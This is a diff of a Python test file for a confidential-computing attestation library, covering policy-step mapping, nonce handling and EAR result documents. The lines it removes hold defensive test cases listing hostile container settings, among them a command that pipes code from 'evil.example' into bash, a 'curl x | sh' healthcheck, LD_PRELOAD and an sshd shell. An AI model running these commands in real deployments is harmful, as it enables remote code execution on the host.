@@ -18,13 +18,16 @@ from services import LATER, LOOK, NONCE, NOW, NearCase, near_case, near_policy
 
 import confide
 from confide.appraisal.claim_names import ClaimName
+from confide.appraisal.ear import ear_document
 from confide.appraisal.nvidia_policy import GpuMode
-from confide.appraisal.provenance import Proofs, SigstoreProof
+from confide.appraisal.service import _REGISTERS
 from confide.appraisal.service_devices import judge_devices
 from confide.appraisal.service_launch import _key_provider
 from confide.appraisal.service_ledger import Ledger
-from confide.appraisal.service_policy import ProvenanceSection
-from confide.appraisal.service_workload import judge_workload
+from confide.appraisal.service_snp import _STEPS
+from confide.appraisal.service_tdx import _LEVEL_STEPS
+from confide.appraisal.snp_appraise import POLICY_STEPS as SNP_POLICY_STEPS
+from confide.appraisal.tdx_appraise import POLICY_STEPS as TDX_POLICY_STEPS
 from confide.appraisal.tdx_policy import UnsafeAny
 from confide.errors import EvidenceRejected, PolicyRejected, Reason, Rejected
 from confide.formats.verify import read_evidence, verify
@@ -40,7 +43,7 @@ from confide.trust.roots import make_simulated_roots
 from confide.wire.bundle import encode_bundle
 from confide.wire.endorsements import Endorsements, SnpEndorsement
 from confide.wire.json import b64encode, jcs
-from confide.wire.service import Capture, LaunchDocument
+from confide.wire.service import Capture
 
 if TYPE_CHECKING:
     from collections.abc import Callable
@@ -59,7 +62,8 @@ def outcome(call: Callable[[], AttestationResult]) -> AttestationResult:
     try:
         return call()
     except Rejected as error:
-        assert error.result is not None
+        if error.result is None:
+            raise
         return error.result
 
 
@@ -305,7 +309,7 @@ def test_a_gateway_that_shows_bad_devices_is_refused_for_them() -> None:
 # --- lists ----------------------------------------------------------------------------------------
 
 
-def listing(policy: Policy, **lists: frozenset[str]) -> Policy:
+def listing(policy: Policy, **lists: Any) -> Policy:
     return replace(policy, tdx=replace(policy.tdx, **lists))
 
 
@@ -334,7 +338,7 @@ def test_combining_a_list_with_an_empty_one_accepts_nothing_that_either_refuses(
         (other, listing(empty, rtmr3=frozenset({"11" * 48}))),
     ):
         both = pair[0].both(pair[1])
-        assert both.tdx.rtmr3 == {"none"}
+        assert both.tdx.rtmr3 == frozenset({"none"})
         assert not accepted(case, both)
         assert not accepted(case, both.both(empty))
     assert accepted(case, empty.both(empty))
@@ -433,169 +437,48 @@ def test_a_key_provider_with_a_name_of_its_own_is_not_shown_as_text() -> None:
     assert claim.value.isprintable()
 
 
-# --- launch documents -----------------------------------------------------------------------------
-
-DIGEST = "ab" * 32
-COMPLETE, PINNED, ACCESS = (
-    ClaimName.WORKLOAD_COMPLETE,
-    ClaimName.IMAGES_PINNED,
-    ClaimName.OPERATOR_ACCESS,
-)
-CLOSED: dict[str, Any] = {
-    "manifest_version": 2,
-    "name": "closed",
-    "runner": "docker-compose",
-    "public_logs": False,
-    "public_sysinfo": False,
-    "public_tcbinfo": False,
-    "kms_enabled": False,
-    "allowed_envs": [],
-}
+# --- what nobody reads ----------------------------------------------------------------------------
 
 
-def measured(document: bytes, policy: Policy = LOOK) -> Ledger:
-    """What a measured launch document leaves of its claims."""
-    ledger = Ledger("machine")
-    ledger.proven(ClaimName.WORKLOAD, "service/6", "hardware", "")
-    launch = LaunchDocument(kind="dstack-compose", raw=document)
-    judge_workload(launch, Proofs(), policy=policy, ledger=ledger)
-    return ledger
+def test_every_step_of_a_policy_speaks_about_a_claim() -> None:
+    """A step that fails and lowers no claim would be a demand that nobody holds."""
+    tdx = {step.id for step in TDX_POLICY_STEPS}
+    mapped = _LEVEL_STEPS.keys() | _REGISTERS.keys()
+    # Report data are judged with the keys; bytes after a signature are zeros or refused before.
+    assert tdx - mapped == {"tdx/4.2", "tdx/31"}
+    assert mapped <= tdx
+    snp = {step.id for step in SNP_POLICY_STEPS}
+    assert snp - _STEPS.keys() == {"snp/11.4"}
+    assert _STEPS.keys() - snp <= {"snp/10.1", "snp/10.2", "snp/10.3"} | snp
 
 
-def app(compose: dict[str, Any] | str, **members: Any) -> bytes:
-    text = compose if isinstance(compose, str) else json.dumps(compose)
-    return json.dumps({**CLOSED, "docker_compose_file": text, **members}).encode()
-
-
-def service(**members: Any) -> dict[str, Any]:
-    return {"services": {"web": {"image": f"example/app@sha256:{DIGEST}", **members}}}
-
-
-def test_a_closed_document_proves_its_claims() -> None:
-    ledger = measured(app(service(command=["serve", "--cost", "$$5"], environment=["A=1"])))
-    assert {name for name in (COMPLETE, PINNED, ACCESS) if ledger.holds(name)} == {
-        COMPLETE,
-        PINNED,
-        ACCESS,
-    }
-
-
-_HOLES: dict[str, tuple[dict[str, Any], ClaimName]] = {
-    "the operator chooses the command": (service(command="sh -c ${CODE}"), COMPLETE),
-    "a default command": (service(command=["sh", "-c", "${CODE:-true}"]), COMPLETE),
-    "the operator chooses the entrypoint": (service(entrypoint=["$ENTRY"]), COMPLETE),
-    "the operator chooses the probe": (service(healthcheck={"test": "${PROBE}"}), COMPLETE),
-    "code from the network": (service(command="bash -c 'curl -s evil.example | bash'"), COMPLETE),
-    "a package at start": (service(entrypoint=["sh", "-c", "pip install x && run"]), COMPLETE),
-    "an address in a list": (service(command=["run", "https://evil.example/x"]), COMPLETE),
-    "a probe that runs": (service(healthcheck={"test": "curl x | sh"}), COMPLETE),
-    "a loader's environment": (service(environment=["LD_PRELOAD"]), COMPLETE),
-    "an interpreter's options": (service(environment={"NODE_OPTIONS": "${N}"}), COMPLETE),
-    "a shell in the command": (service(command="/usr/sbin/sshd -D"), ACCESS),
-    "the operator's environment": (service(environment={"UPSTREAM": "${U}"}), ACCESS),
-    "a range of ports": (service(ports=["2000-2010:20-30"]), ACCESS),
-    "a bind mount by name": (service(volumes=[{"type": "bind", "source": "run"}]), COMPLETE),
-    "a mounted image": (service(volumes=[{"type": "image", "source": "x:latest"}]), COMPLETE),
-    "models": (service(models=["m"]), COMPLETE),
-    "containers of others": (service(external_links=["other"]), COMPLETE),
-    "labels of the host": (service(label_file="x"), COMPLETE),
-    "devices in deploy": (
-        service(deploy={"resources": {"reservations": {"devices": [{"driver": "cdi"}]}}}),
-        COMPLETE,
-    ),
-    "devices in gpus": (service(gpus=[{"driver": "vfio"}]), COMPLETE),
-    "a network of others": (
-        {**service(), "networks": {"default": {"external": True}}},
-        COMPLETE,
-    ),
-    "the network of the host": ({**service(), "networks": {"n": {"name": "host"}}}, COMPLETE),
-    "a volume of others": ({**service(), "volumes": {"v": {"external": True}}}, COMPLETE),
-    "a volume on the network": (
-        {**service(), "volumes": {"v": {"driver_opts": {"type": "nfs", "device": ":/x"}}}},
-        COMPLETE,
-    ),
-    "an unknown element": ({**service(), "plugins": {}}, COMPLETE),
-    "services elsewhere": ({"include": ["other.yaml"], "services": {}}, PINNED),
-    "no services": ({"services": {}}, PINNED),
-}
-
-
-@pytest.mark.parametrize("name", _HOLES)
-def test_a_document_that_leaves_a_hole_does_not_prove_the_claim(name: str) -> None:
-    compose, claim = _HOLES[name]
-    assert not measured(app(compose)).holds(claim)
-
-
-@pytest.mark.parametrize(
-    ("members", "claim"),
-    [
-        ({"features": ["kms"]}, ClaimName.KEY_LIFETIME),
-        ({"hooks": {"start": "x"}}, COMPLETE),
-        ({"requirements": {"gpu_policy": {"allow_devtools": True}}}, ClaimName.GPU),
-    ],
-    ids=["features", "unknown", "gpu policy"],
-)
-def test_an_app_compose_that_leaves_a_hole(members: dict[str, Any], claim: ClaimName) -> None:
-    ledger = measured(app(service(), **members))
-    assert ledger.status(claim) in {Status.NOT_PROVEN, Status.FAIL}
-
-
-@pytest.mark.parametrize(
-    "compose",
-    [
-        "services:\n  a:\n    image: x@sha256:00\n    image: y\n",
-        "services: &a\n  b: *a\n",
-        "services:\n  a: !reset null\n",
-        "services:\n  a:\n    image: x\n---\nservices: {}\n",
-    ],
-    ids=["twice", "cycle", "tag", "second document"],
-)
-def test_yaml_that_others_read_otherwise_proves_nothing(compose: str) -> None:
-    ledger = measured(app(compose))
-    assert not any(ledger.holds(name) for name in (COMPLETE, PINNED, ACCESS))
-
-
-def test_a_merged_member_is_judged_like_a_written_one() -> None:
-    text = (
-        f"x-a: &a\n  image: x@sha256:{DIGEST}\n  privileged: true\nservices:\n  web:\n    <<: *a\n"
+@pytest.mark.parametrize("length", [0, 1, 31, 33, 64])
+def test_a_nonce_of_another_length_in_a_bundle_is_no_crash(length: int) -> None:
+    documents = dstack_documents(cases.NONCE, gpu_set().collect(cases.NONCE))
+    capture = Capture(documents=documents, format="dstack", nonce=b"n" * length)
+    own = Endorsements(
+        tdx=(cases.platform().collateral(),), nvidia=gpu_set().endorsements(cases.NOW)
     )
-    assert measured(app(text)).status(COMPLETE) is Status.FAIL
+    bundle = encode_bundle(capture, own)
+    for nonce in (None, cases.NONCE):
+        result = outcome(
+            lambda nonce=nonce: verify(  # type: ignore[misc]
+                bundle, own, LOOK, now=cases.NOW, roots=roots(), nonce=nonce
+            )
+        )
+        assert status(result, "gpu-freshness") is not Status.PASS
 
 
-def test_json_that_others_read_otherwise_proves_nothing() -> None:
-    raw = app(service()).replace(b'"runner"', b'"runner": "bash", "runner"')
-    assert not any(measured(raw).holds(name) for name in (COMPLETE, PINNED, ACCESS))
-
-
-def test_an_image_that_is_built_on_the_machine_has_nobody_who_vouches_for_it() -> None:
-    """One image is signed; the other service is whatever the machine builds."""
-    compose = service()
-    compose["services"]["other"] = {"build": "."}
-    policy = replace(LOOK, provenance=ProvenanceSection(identities=frozenset({"https://i me"})))
-    proof = SigstoreProof(
-        sha256=bytes.fromhex(DIGEST),
-        issuer="https://i",
-        identity="me",
-        predicate_type="",
-        payload=b"",
-        integrated_time=None,
-        log_index=0,
-        root_sha256="",
-        public_good=False,
+def test_what_is_refused_does_not_read_as_affirming() -> None:
+    """Every claim behind the vector is proven; another one is required, and is not."""
+    case = CASE()
+    policy = near_policy(case)
+    policy = replace(
+        policy, claims=replace(policy.claims, require=policy.claims.require | {"model-weights"})
     )
-    for document, holds in ((app(service()), True), (app(compose), False)):
-        ledger = Ledger("machine")
-        ledger.proven(ClaimName.WORKLOAD, "service/6", "hardware", "")
-        launch = LaunchDocument(kind="dstack-compose", raw=document)
-        judge_workload(launch, Proofs((proof,)), policy=policy, ledger=ledger)
-        assert ledger.holds(ClaimName.IMAGE_PROVENANCE) is holds
-
-
-def test_who_else_can_quote_is_counted() -> None:
-    ledger = Ledger("machine")
-    launch = LaunchDocument(
-        kind="dstack-compose",
-        raw=app(service(volumes=["/var/run/dstack.sock:/var/run/dstack.sock"])),
-    )
-    (limit,) = judge_workload(launch, Proofs(), policy=LOOK, ledger=ledger)
-    assert "machine: 1 mount(s)" in limit
+    error = refused(lambda: judge(case, policy))
+    assert error.result is not None
+    document: Any = ear_document(error.result, accepted=False, version="1")
+    assert document["submods"]["model[0]"]["ear.status"] == "contraindicated"
+    for submodule in document["submods"].values():
+        assert submodule["ear.status"] not in {"affirming", "none"}
